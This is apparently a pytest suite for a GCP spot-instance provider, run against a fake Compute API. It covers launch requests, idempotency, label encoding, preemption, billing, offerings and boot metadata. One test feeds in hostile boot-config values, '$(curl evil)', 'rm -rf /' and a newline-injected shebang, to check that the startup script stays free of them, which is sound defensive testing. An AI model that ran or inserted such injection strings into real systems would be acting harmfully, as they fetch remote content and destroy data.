"""The GCP provider's own behaviour on the loopback fake: what an insert asks Compute for, idempotent
launches (name, requestId, a racing insert), tags round-tripping through labels, preemptions seen by
poll(), offerings from the bundled catalog and the zone listings, and the boot metadata."""

from __future__ import annotations

import dataclasses
import json
import random
import string
import uuid

import pytest

from cloud_providers import catalog as shared
from cloud_providers.base import ON_DEMAND, SPOT, TAG_CONTROLLER, TAG_DECISION, TAG_JOB, InstanceState
from cloud_providers.errors import InvalidRequest
from cloud_providers.gcp import GcpProvider, instance_name, request_id, userdata
from cloud_providers.gcp import catalog as gcp_catalog
from cloud_providers.gcp import labels as gcp_labels
from cloud_providers.gcp.instances import NOTICE_S
from cloud_providers.gcp.names import named_for
from cloud_providers.gcp.provider import MIN_BILLED_S, TAG_PRICE

from .conftest import FakeClock, SleepRecorder, make_test_provider, request_factory
from .fake_compute import FakeCompute, ZoneSpec

pytestmark = pytest.mark.gcp


# -- what an insert asks for --------------------------------------------------------------------------
def test_spot_insert_asks_for_a_spot_vm_deleted_on_preemption(gcp_fake: FakeCompute, gcp_provider: GcpProvider) -> None:
    request = request_factory(gcp_provider)(job="body", market=SPOT)
    instance = gcp_provider.launch(request)
    record = gcp_fake.instance(instance.instance_id)
    assert record is not None
    assert record["scheduling"]["provisioningModel"] == "SPOT"
    assert record["scheduling"]["instanceTerminationAction"] == "DELETE"
    assert record["scheduling"]["onHostMaintenance"] == "TERMINATE"
    assert record["scheduling"]["automaticRestart"] is False
    assert [(a["acceleratorType"].rsplit("/", 1)[-1], a["acceleratorCount"]) for a in record["guestAccelerators"]] == [
        ("nvidia-tesla-t4", 1)]
    items = {i["key"]: i["value"] for i in record["metadata"]["items"]}
    assert items["startup-script"].startswith("#!/bin/bash")
    assert json.loads(items[userdata.CONFIG_KEY])["decision_id"] == request.decision_id
    (query,) = [q for m, p, q in gcp_fake.queries if m == "POST" and p.endswith("/instances")]
    assert query["requestId"] == request_id(request.decision_id) == str(uuid.UUID(query["requestId"]))
    assert instance.instance_id == instance_name(request.decision_id, "body", controller_id=gcp_provider.controller_id)
    assert named_for(instance.instance_id, gcp_provider.controller_id) and not named_for(instance.instance_id, "other")
    assert instance.address and instance.address.startswith("10.")


def test_built_in_gpus_are_not_attached_and_on_demand_is_standard(gcp_fake: FakeCompute,
                                                                    gcp_provider: GcpProvider) -> None:
    make = request_factory(gcp_provider, machine_type="g2-standard-4", accelerator="L4")
    instance = gcp_provider.launch(make(job="g2", market=ON_DEMAND))
    record = gcp_fake.instance(instance.instance_id)
    assert record is not None and record["scheduling"]["provisioningModel"] == "STANDARD"
    assert record["scheduling"]["onHostMaintenance"] == "TERMINATE"
    assert instance.offering_key.endswith("/g2-standard-4/L4:1") and instance.market == ON_DEMAND
    body = [q for m, p, q in gcp_fake.queries if m == "POST"]
    assert body, "an insert was sent"


# -- idempotency -----------------------------------------------------------------------------------------
def test_a_second_launch_of_a_decision_only_looks(gcp_fake: FakeCompute, gcp_provider: GcpProvider) -> None:
    request = request_factory(gcp_provider)(job="idem", market=SPOT)
    first = gcp_provider.launch(request)
    again = make_test_provider(gcp_fake, gcp_provider.now_s, lambda s: None, controller_id=gcp_provider.controller_id)
    assert again.launch(request).instance_id == first.instance_id  # a restarted controller, same decision
    assert gcp_fake.count("POST", r"/instances$") == 1


def test_a_repeated_request_id_returns_the_original_operation(gcp_fake: FakeCompute, gcp_provider: GcpProvider) -> None:
    from cloud_providers.gcp._google import make_client_factory

    client = make_client_factory(endpoint=gcp_fake.endpoint)("instances")
    body = {"name": "sp-raw-1", "machine_type": "zones/us-central1-a/machineTypes/e2-standard-2",
            "disks": [{"boot": True, "initialize_params": {"source_image": "projects/debian-cloud/global/images/x"}}]}
    rid = str(uuid.uuid4())
    ops = [client.insert(request={"project": gcp_fake.project, "zone": "us-central1-a", "instance_resource": body,
                                  "request_id": rid}) for _ in range(2)]
    assert ops[0].name == ops[1].name
    assert [i["name"] for i in gcp_fake.instances()] == ["sp-raw-1"]


def test_an_insert_racing_another_finds_the_winner(gcp_fake: FakeCompute, gcp_provider: GcpProvider) -> None:
    request = request_factory(gcp_provider)(job="race", market=SPOT)
    first = gcp_provider.launch(request)
    other = make_test_provider(gcp_fake, gcp_provider.now_s, lambda s: None, controller_id=gcp_provider.controller_id)
    # Its first look misses (as if the winner's insert had not landed yet); its insert then meets a 409.
    gcp_fake.fail(404, "notFound", "not found", method="GET", path=rf"/instances/{first.instance_id}$")
    assert other.launch(dataclasses.replace(request)).instance_id == first.instance_id
    assert len(gcp_fake.instances()) == 1


# -- labels ----------------------------------------------------------------------------------------------
def test_tags_round_trip_through_labels(gcp_fake: FakeCompute, gcp_provider: GcpProvider) -> None:
    base = request_factory(gcp_provider)(job="Job_With.Odd Chars-" + "x" * 80, market=SPOT)
    tags = dict(base.tags, **{"Owner": "Ada Lovelace", "cost-centre": "ML/Research", "9lives": "ünïcode ✓"})
    instance = gcp_provider.launch(dataclasses.replace(base, tags=tags))
    for key, value in tags.items():
        assert instance.tags[key] == value
    record = gcp_fake.instance(instance.instance_id)
    assert record is not None and all(len(k) <= 63 and len(v) <= 63 for k, v in record["labels"].items())
    listed = gcp_provider.list_instances({TAG_JOB: tags[TAG_JOB], "Owner": "Ada Lovelace"})
    assert [i.instance_id for i in listed] == [instance.instance_id]
    assert not gcp_provider.list_instances({TAG_JOB: tags[TAG_JOB], "Owner": "Grace Hopper"})
    assert float(instance.tags[TAG_PRICE]) == pytest.approx(0.22)


def test_label_encoding_is_faithful_and_valid_on_random_tags() -> None:
    rng = random.Random(12)
    alphabet = string.ascii_letters + string.digits + "-_./: @é✓"
    for _ in range(300):
        tags = {"".join(rng.choice(alphabet) for _ in range(rng.randint(1, 18))):
                "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 150))) for _ in range(rng.randint(1, 5))}
        labels = gcp_labels.encode_tags(tags)
        assert gcp_labels.decode_labels(labels) == tags
        for key, value in labels.items():
            assert gcp_labels._LABEL.match(key) and gcp_labels._VALUE.match(value), (key, value)
    plain = {"spotrain-job": "digits-cnn-1", "spotrain-decision": str(uuid.UUID(int=7)), "spotrain-market": "spot"}
    assert gcp_labels.encode_tags(plain) == plain, "common tags stay readable"
    with pytest.raises(InvalidRequest):
        gcp_labels.encode_tags({"k" * 70: "v"})


# -- preemptions and termination ---------------------------------------------------------------------
def test_preemption_is_a_notice_then_terminated_once(gcp_fake: FakeCompute, gcp_provider: GcpProvider,
                                                     clock: FakeClock) -> None:
    instance = gcp_provider.launch(request_factory(gcp_provider)(job="pre", market=SPOT))
    gcp_provider.poll()
    clock.advance(300)
    deadline = gcp_fake.preempt(instance.instance_id)
    (notice,) = [i for i in gcp_provider.poll() if i.instance_id == instance.instance_id]
    assert notice.state is InstanceState.NOTICE and notice.interruption == "preemption"
    assert notice.notice_deadline_s == pytest.approx(deadline) == pytest.approx(clock() + NOTICE_S)
    assert gcp_provider.poll() == []
    clock.advance(20)
    gcp_fake.complete_preemption(instance.instance_id)
    (gone,) = gcp_provider.poll()
    assert gone.state is InstanceState.TERMINATED and gone.interruption == "preemption"
    assert gone.terminated_at_s == pytest.approx(clock())
    assert gcp_provider.poll() == []
    # Still listed (Compute has forgotten it), billed to the end of the preemption, then not growing.
    (listed,) = gcp_provider.list_instances({TAG_DECISION: instance.tags[TAG_DECISION]})
    assert listed.state is InstanceState.TERMINATED
    bill = gcp_provider.billing(listed)
    assert bill.billed_seconds == pytest.approx(320.0, abs=0.01)
    assert bill.cost_usd == pytest.approx(320.0 * 0.22 / 3600, abs=1e-5)
    clock.advance(1000)
    assert gcp_provider.billing(listed) == bill


def test_a_preempted_vm_left_terminated_is_a_preemption(gcp_fake: FakeCompute, gcp_provider: GcpProvider) -> None:
    instance = gcp_provider.launch(request_factory(gcp_provider)(job="stop", market=SPOT))
    gcp_fake.preempt(instance.instance_id)
    gcp_fake.set_status(instance.instance_id, "TERMINATED")  # instanceTerminationAction=STOP would do this
    (seen,) = [i for i in gcp_provider.poll() if i.instance_id == instance.instance_id]
    assert seen.state is InstanceState.TERMINATED and seen.interruption == "preemption"


def test_our_own_delete_is_not_a_preemption(gcp_fake: FakeCompute, clock: FakeClock, sleeps: SleepRecorder) -> None:
    gcp_fake.delete_delay_s = 30.0  # the VM stays STOPPING for a while, as on Compute
    provider = make_test_provider(gcp_fake, clock, sleeps)
    instance = provider.launch(request_factory(provider)(job="del", market=SPOT))
    provider.poll()
    clock.advance(90)
    provider.terminate(instance.instance_id)
    (stopping,) = provider.poll()
    assert stopping.state is InstanceState.TERMINATED and stopping.interruption is None
    assert stopping.terminated_at_s == pytest.approx(clock())
    clock.advance(60)
    assert provider.poll() == []
    assert gcp_fake.instances() == []
    (listed,) = provider.list_instances({TAG_JOB: "del"})
    assert listed.state is InstanceState.TERMINATED and provider.billing(listed).billed_seconds == pytest.approx(90, abs=0.01)


def test_billing_has_a_one_minute_minimum(gcp_provider: GcpProvider, clock: FakeClock) -> None:
    instance = gcp_provider.launch(request_factory(gcp_provider)(job="min", market=ON_DEMAND))
    clock.advance(5)
    bill = gcp_provider.billing(instance)
    assert bill.billed_seconds == MIN_BILLED_S == GcpProvider.min_billed_s
    assert bill.cost_usd == pytest.approx(60 * 0.73 / 3600) == pytest.approx(bill.on_demand_cost_usd)


def test_recovery_lists_what_a_previous_controller_launched(gcp_fake: FakeCompute, gcp_provider: GcpProvider) -> None:
    instance = gcp_provider.launch(request_factory(gcp_provider)(job="rec", market=SPOT))
    restarted = make_test_provider(gcp_fake, gcp_provider.now_s, lambda s: None,
                                   controller_id=gcp_provider.controller_id)
    (found,) = restarted.list_instances({TAG_CONTROLLER: gcp_provider.controller_id})
    assert found.instance_id == instance.instance_id and found.tags == instance.tags
    assert [i.instance_id for i in restarted.poll()] == [instance.instance_id]


def test_a_preemption_while_no_controller_watched_is_a_preemption_after_restart(
        gcp_fake: FakeCompute, gcp_provider: GcpProvider, clock: FakeClock, sleeps: SleepRecorder) -> None:
    cid = gcp_provider.controller_id
    make = request_factory(gcp_provider)
    taken, ours, old = (gcp_provider.launch(make(job=j, market=SPOT)) for j in ("away", "deleted", "old"))
    other = make_test_provider(gcp_fake, clock, sleeps)
    theirs = other.launch(request_factory(other)(job="theirs", market=SPOT))
    old_preempted_at = clock()
    gcp_fake.preempt(old.instance_id, complete=True)  # hours before the restart
    clock.advance(7200)
    # The controller dies; meanwhile Compute preempts and deletes two VMs, and one we had deleted goes.
    gcp_provider.terminate(ours.instance_id)
    preempted_at = clock()
    gcp_fake.preempt(taken.instance_id, complete=True)
    gcp_fake.preempt(theirs.instance_id, complete=True)
    clock.advance(600)
    restarted = make_test_provider(gcp_fake, clock, sleeps, controller_id=cid)
    listed = {i.instance_id: i for i in restarted.list_instances({TAG_CONTROLLER: cid})}
    assert set(listed) == {taken.instance_id, old.instance_id}  # not ours deleted, not another controller's
    assert listed[old.instance_id].terminated_at_s == pytest.approx(old_preempted_at + NOTICE_S)
    gone = listed[taken.instance_id]
    assert gone.state is InstanceState.TERMINATED and gone.interruption == "preemption" and gone.market == SPOT
    assert gone.terminated_at_s == pytest.approx(preempted_at + NOTICE_S) and gone.zone == taken.zone
    assert gone.tags == {TAG_CONTROLLER: cid, "spotrain-market": SPOT}  # all a name can vouch for
    assert restarted.list_instances({TAG_JOB: "away"}) == []  # the job label is gone with the VM
    assert {i.instance_id for i in restarted.list_instances({TAG_CONTROLLER: cid})} <= set(listed)
    asked = [q for m, p, q in gcp_fake.queries if m == "GET" and p.endswith("/operations")]
    assert len(asked) == len(restarted.zones)  # each zone once, not on every list
    assert {q["filter"] for q in asked} == {'operationType = "compute.instances.preempted"'}


def test_an_instance_listed_at_recovery_and_gone_before_the_first_poll_is_reported(
        gcp_fake: FakeCompute, gcp_provider: GcpProvider, clock: FakeClock, sleeps: SleepRecorder) -> None:
    instance = gcp_provider.launch(request_factory(gcp_provider)(job="gap", market=SPOT))
    restarted = make_test_provider(gcp_fake, clock, sleeps, controller_id=gcp_provider.controller_id)
    (alive,) = restarted.list_instances({TAG_CONTROLLER: gcp_provider.controller_id})
    assert alive.alive
    clock.advance(10)
    gcp_fake.preempt(instance.instance_id, complete=True)
    (gone,) = restarted.poll()
    assert gone.instance_id == instance.instance_id and not gone.alive and gone.interruption == "preemption"
    assert restarted.poll() == []


# -- offerings -------------------------------------------------------------------------------------------
def test_offerings_cover_the_bundled_catalog_where_zones_have_it(gcp_fake: FakeCompute, clock: FakeClock,
                                                                 sleeps: SleepRecorder) -> None:
    provider = make_test_provider(gcp_fake, clock, sleeps, zones=list(gcp_fake.zones))
    offered = {(o.zone, o.instance_type, o.accelerator, o.gpus) for o in provider.offerings()}
    everything = {(t.machine_type, t.accelerator, t.gpus) for t in gcp_catalog.TYPES}
    assert {k[1:] for k in offered if k[0] == "us-central1-a"} == everything
    assert not any(z == "us-central1-f" and a in ("L4", "H100") for z, _, a, _ in offered)
    assert not any(m.startswith(("e2-", "n2-")) for _, m, _, _ in offered)
    for o in provider.offerings():
        assert o.spot_price_usd_per_hour is not None and 0 < o.spot_price_usd_per_hour < o.on_demand_price_usd_per_hour
        assert o.notice_seconds == 30.0 and o.region == gcp_catalog.region_of(o.zone)
    # Two list calls per zone, then the cache.
    calls = len(gcp_fake.calls)
    provider.offerings()
    assert len(gcp_fake.calls) == calls


def test_a_zone_allowing_fewer_cards_offers_fewer_entries(clock: FakeClock, sleeps: SleepRecorder) -> None:
    zones = {"us-east1-c": ZoneSpec(("n1-standard-8", "n1-standard-16"), {"nvidia-tesla-t4": 1})}
    with FakeCompute(clock=clock, zones=zones) as fake:
        provider = make_test_provider(fake, clock, sleeps, zones=["us-east1-c"])
        assert [o.key for o in provider.offerings()] == ["gcp/us-east1-c/n1-standard-8/T4:1"]


def test_spot_price_overrides(gcp_fake: FakeCompute, clock: FakeClock, sleeps: SleepRecorder) -> None:
    provider = make_test_provider(gcp_fake, clock, sleeps, spot_price_overrides={
        "n1-standard-8/T4:1": 0.3, "us-central1-b/g2-standard-4": 0.25})
    prices = {o.key: o.spot_price_usd_per_hour for o in provider.offerings()}
    assert prices["gcp/us-central1-a/n1-standard-8/T4:1"] == 0.3
    assert prices["gcp/us-central1-b/g2-standard-4/L4:1"] == 0.25
    assert prices["gcp/us-central1-a/g2-standard-4/L4:1"] == 0.2827
    assert prices["gcp/us-central1-a/n1-standard-8/V100:1"] == pytest.approx(1.07)


def test_the_shared_catalog_agrees_with_the_bundled_one() -> None:
    for t in shared.INSTANCE_TYPES:
        if t.cloud == "gcp":
            entry = gcp_catalog.find_type(t.instance_type, t.accelerator, t.gpus)
            assert entry is not None, t
            assert entry.on_demand_price_usd_per_hour == pytest.approx(t.on_demand_price_usd_per_hour), t
    for entry in gcp_catalog.TYPES:
        assert entry.accelerator in shared.ACCELERATORS
        assert 0 < entry.spot_price_usd_per_hour < entry.on_demand_price_usd_per_hour


# -- boot metadata ---------------------------------------------------------------------------------------
def test_startup_script_carries_no_job_data(gcp_fake: FakeCompute, clock: FakeClock, sleeps: SleepRecorder) -> None:
    hostile = {"run": "$(curl evil) `rm -rf /`; echo '", "job_id": "x\n#!/bin/sh", "env": {"A": "'\"$B"}}
    provider = make_test_provider(gcp_fake, clock, sleeps, boot_config_for=lambda request: hostile)
    instance = provider.launch(request_factory(provider)(job="boot", market=SPOT))
    assert provider.boot_config(instance) == hostile
    record = gcp_fake.instance(instance.instance_id)
    assert record is not None
    script = {i["key"]: i["value"] for i in record["metadata"]["items"]}["startup-script"]
    assert script == userdata.AgentBoot().script()
    assert "evil" not in script and "rm -rf" not in script
    # Pinned (finding 7): by default to the controller's served wheel and its hash (issue 21, finding 14).
    assert "'spotrain[gcp]'" in script and "agent_wheel_sha256" in script and userdata.CONFIG_KEY in script


def test_an_oversized_boot_config_is_an_invalid_request(gcp_fake: FakeCompute, clock: FakeClock,
                                                        sleeps: SleepRecorder) -> None:
    provider = make_test_provider(gcp_fake, clock, sleeps, boot_config_for=lambda r: {"blob": "x" * 100_000})
    with pytest.raises(InvalidRequest, match="too large"):
        provider.launch(request_factory(provider)(job="big", market=SPOT))
    assert gcp_fake.count("POST", r"/instances$") == 0


def test_a_decision_whose_vm_is_already_gone_is_reported_terminated(gcp_fake: FakeCompute,
                                                                    gcp_provider: GcpProvider) -> None:
    request = request_factory(gcp_provider)(job="gone", market=SPOT)
    first = gcp_provider.launch(request)
    gcp_fake.preempt(first.instance_id, complete=True)
    # A restarted controller replays the decision: same requestId, so Compute answers with the original
    # (successful) operation and buys nothing; the VM is gone, and that is what launch says.
    again = make_test_provider(gcp_fake, gcp_provider.now_s, lambda s: None, controller_id=gcp_provider.controller_id)
    replay = again.launch(request)
    assert replay.instance_id == first.instance_id and replay.state is InstanceState.TERMINATED
    assert replay.interruption == "preemption" and replay.tags[TAG_DECISION] == request.decision_id
    assert gcp_fake.instances() == []
    assert [i.instance_id for i in again.list_instances({TAG_JOB: "gone"})] == [first.instance_id]
